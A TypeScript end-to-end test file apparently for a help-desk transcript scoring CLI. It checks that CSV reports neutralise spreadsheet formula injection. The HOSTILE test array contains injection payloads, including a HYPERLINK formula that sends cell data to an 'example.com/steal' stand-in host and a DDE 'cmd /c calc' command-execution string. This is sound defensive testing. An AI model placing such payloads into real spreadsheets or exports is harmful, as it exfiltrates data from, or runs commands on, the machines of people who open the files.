import { parse } from 'csv-parse/sync';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runPreach, scratchDir } from '../helpers/cli.js';

/**
 * End-to-end: a CSV report is safe to open in a spreadsheet. Ids and names come from the
 * transcripts, so anyone who can write to the help desk controls them; a cell that starts like a
 * formula (= + - @, tab, carriage return) is prefixed with a single quote and quoted (OWASP).
 */

let dir: string;
let cleanup: () => void;

const conversation = (id: string, agentName: string, index: number) =>
  JSON.stringify({ id, channel: 'email', messages: [{ role: 'customer', author: 'c-1', text: 'Where is my refund?' }, { role: 'agent', author: `a-${index}`, author_name: agentName, text: 'Your refund went out today.' }] });

const HOSTILE = ['=HYPERLINK("https://example.com/steal?"&A1,"Open")', '+1+cmd|"/c calc"!A0', '-2+3', '@SUM(1+1)', '\t=1+1', '\r=1+1', '＝1+1'];

beforeAll(() => {
  ({ dir, cleanup } = scratchDir('preach-safety-csv-'));
  writeFileSync(join(dir, '.preachrc.yaml'), 'root: true\nextends: [preach:recommended]\n');
  const lines = HOSTILE.map((text, i) => conversation(text, `${text} agent ${i}`, i));
  // A record that cannot be scored: its id still reaches the report's error rows.
  lines.push(JSON.stringify({ id: '=1+2', messages: [{ role: 'robot', text: 'beep' }] }));
  writeFileSync(join(dir, 'hostile.jsonl'), `${lines.join('\n')}\n`);
});
afterAll(() => cleanup());

describe('score --format csv', () => {
  it('neutralises cells that start like a formula, in conversation rows and error rows', async () => {
    const run = await runPreach(['score', 'hostile.jsonl', '-f', 'csv', '--jobs', '1'], { cwd: dir });
    expect(run.code).toBe(1);
    const rows: Array<Record<string, string>> = parse(run.stdout, { columns: true });
    expect(rows.map((row) => row.conversation_id)).toEqual([...HOSTILE, '=1+2'].map((id) => `'${id}`));
    expect(rows.slice(0, HOSTILE.length).map((row) => row.agents)).toEqual(HOSTILE.map((text, i) => `'${text} agent ${i}`));
    // Every such cell is quoted, so the quote is part of the text wherever the file is opened.
    for (const id of [...HOSTILE, '=1+2']) expect(run.stdout).toContain(`"'${id.replace(/"/g, '""')}`);
    // Numbers stay numbers, and text that is safe stays as it was.
    expect(rows[0]).toMatchObject({ source: 'hostile.jsonl', line: '1', channel: 'email', replies: '1' });
    expect(Number(rows[0]!.score)).toBeGreaterThanOrEqual(0);
  });

  it('does the same in the per-agent table', async () => {
    const run = await runPreach(['score', 'hostile.jsonl', '-f', 'csv', '--group-by', 'agent', '--jobs', '1'], { cwd: dir });
    const rows: Array<Record<string, string>> = parse(run.stdout, { columns: true });
    expect(rows.map((row) => row.agent).sort()).toEqual(HOSTILE.map((text, i) => `'${text} agent ${i}`).sort());
    expect(rows.every((row) => /^\d+$/.test(row.conversations!))).toBe(true);
  });
});
